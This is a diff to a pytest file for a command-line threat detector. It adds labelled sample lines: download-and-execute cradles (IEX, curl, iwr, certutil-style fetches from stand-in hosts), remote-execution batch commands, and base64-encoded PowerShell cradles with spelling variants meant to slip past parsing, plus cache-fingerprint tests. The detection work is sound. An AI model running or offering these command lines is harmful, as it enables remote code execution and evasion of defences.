@@ -30,12 +30,14 @@ from pipeline.indicators import (
     lone_mask,
 )
 from pipeline.model.routed import lone_rows
+from pipeline.training import dataset as dataset_module
 from pipeline.training.dataset import (
     LONE_VIEW,
     DataConfig,
     Dataset,
     StaleCache,
     build_dataset,
+    cache_fingerprint,
     load_dataset,
     save_dataset,
 )
@@ -122,6 +124,8 @@ POSITIVES: dict[str, list[str]] = {
         "%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat",
         "C:\\Windows\\system32\\cmd.exe  /Q /c C:\\Windows\\TEMP\\execute.bat ",
         "cmd.exe /C tasklist > C:\\Windows\\Temp\\rAnDoMzZ.tmp 2>&1",
+        "%COMSPEC% /Q /c echo whoami ^> \\\\%COMPUTERNAME%\\C$\\__output 2^>^&1 > %SYSTEMROOT%\\AbCdEfGh.bat",
+        "cmd.exe /Q /c C:\\Windows\\AbCdEfGh.bat",
     ],
     "dynamic_invoke": [
         "powershell -c \" -JOIN('73A69'.sPlIT('A')|%{([iNt] $_ -AS [char])})"
@@ -140,6 +144,9 @@ POSITIVES: dict[str, list[str]] = {
         "cmd /c bitsadmin /transfer j /download http://x/a.exe C:\\Users\\Public\\a.exe "
         "& C:\\Users\\Public\\a.exe",
         "cmd /c certutil -urlcache -split -f http://x/a.dll a.dll && rundll32 a.dll,Start",
+        "powershell IEX (curl http://203.0.113.5/a).Content",
+        "curl -o C:\\Users\\Public\\a.exe http://x/a.exe && C:\\Users\\Public\\a.exe",
+        "powershell iwr http://x/a.exe -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe",
     ],
     "writable_config_target": [
         'netsh advfirewall firewall add rule name=u dir=in action=allow program="C:\\Users\\Public\\u.exe"',
@@ -174,6 +181,9 @@ ORDINARY = [
     "powershell -c \"-join ((65..90) + (97..122) | Get-Random -Count 12 | % {[char]$_})\"",
     "powershell -c \"Invoke-WebRequest https://example.com/report.csv -OutFile C:\\Temp\\report.csv\"",
     "powershell -c \"$p = Get-Process; $p | Select-Object Name\"",
+    "powershell -c \"Write-Host ([char]27+[char]91+[char]50+'J')\"",  # an ANSI escape, not IEX
+    "powershell -c \"$Public[0] | Import-Module\"",
+    "copy agent.msi \\\\localhost\\c$\\windows\\temp\\agent.msi",
 ]
 
 
@@ -211,11 +221,31 @@ def test_an_encoded_command_inside_an_encoded_command_is_decoded_too() -> None:
 
 def test_arguments_that_are_not_an_encoded_script_are_left_alone() -> None:
     noise = base64.b64encode(bytes(range(1, 250, 3)) * 4).decode()
-    assert encoded_text(f"powershell -enc {noise}") == ""  # random bytes, not UTF-16 text
+    assert lone_mask(f"powershell -enc {noise}") == 0  # random bytes decode to text no indicator matches
     not_encoded = f"powershell -ExecutionPolicy {_encoded('net user x y /add')}"
     assert encoded_text(not_encoded) == ""  # not -EncodedCommand
     assert encoded_text(f"tool.exe -e {_encoded('net user x y /add')}!!") == "net user x y /add"  # junk cut
     assert lone_mask(f"powershell -enc {_encoded('Get-Service W32Time')}") == 0
+
+
+CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://10.1.2.3/a')"
+
+
+@pytest.mark.parametrize("line", [
+    f"powershell \u2013enc {_encoded(CRADLE)}",  # typographic dashes, as PowerShell's parser takes them
+    f"powershell \u2014e {_encoded(CRADLE)}",
+    f"powershell --EncodedCommand {_encoded(CRADLE)}",
+    " ".join(f"-e {_encoded('Get-Date')}" for _ in range(5)) + f" powershell -e {_encoded(CRADLE)}",  # decoys
+    f"cmd /c echo x\npowershell -e {_encoded(CRADLE)}",  # a line before it
+])
+def test_every_spelling_and_position_of_an_encoded_command_is_read(line: str) -> None:
+    assert "fetch_and_run" in lone_indicator_names(lone_mask(line))
+
+
+def test_letters_that_only_look_like_base64_are_not_decoded() -> None:
+    # under IGNORECASE a Unicode [a-z] takes the Kelvin sign and the long s; base64 refuses them
+    assert lone_mask("powershell -enc " + "\u212a" * 16) == 0
+    assert lone_mask("powershell -enc " + "\u017f" * 16 + " x") == 0
 
 
 def test_a_hostile_encoded_argument_costs_time_linear_in_its_length() -> None:
@@ -299,6 +329,28 @@ def test_a_cached_dataset_of_another_feature_version_is_refused(tiny: Dataset, t
     cache.with_suffix(".json").write_text(json.dumps(meta))
     with pytest.raises(StaleCache, match=f"{N_BASE_FEATURES} columns"):
         load_dataset(cache)
+    save_dataset(tiny, cache, "built-by-a")
+    assert load_dataset(cache, "built-by-a").matrix.shape == tiny.matrix.shape
+    with pytest.raises(StaleCache, match="fingerprint differs"):
+        load_dataset(cache, "built-by-b")
+    cache.with_suffix(".json").unlink()
+    with pytest.raises(StaleCache, match="cannot be read whole"):
+        load_dataset(cache)
+
+
+def test_the_cache_fingerprint_follows_the_settings_and_the_code(monkeypatch: pytest.MonkeyPatch,
+                                                                   tmp_path: Path) -> None:
+    config = DataConfig(otrf_root=None, captures=None)
+    assert cache_fingerprint(config) == cache_fingerprint(DataConfig(otrf_root=None, captures=None))
+    assert cache_fingerprint(config) != cache_fingerprint(dataclasses.replace(config, lone_view=False))
+    copy = tmp_path / "code"
+    for package in ("pipeline", "schemas", "agents"):
+        (copy / package).mkdir(parents=True)
+        (copy / package / "a.py").write_text("x = 1\n")
+    monkeypatch.setattr(dataset_module, "_CODE_ROOT", copy)
+    before = cache_fingerprint(config)
+    (copy / "pipeline" / "b.py").write_text("y = 2\n")  # a module added: another dataset
+    assert cache_fingerprint(config) != before
 
 
 def test_a_widened_booster_scores_every_row_as_it_did_on_its_own_columns(tiny: Dataset) -> None:
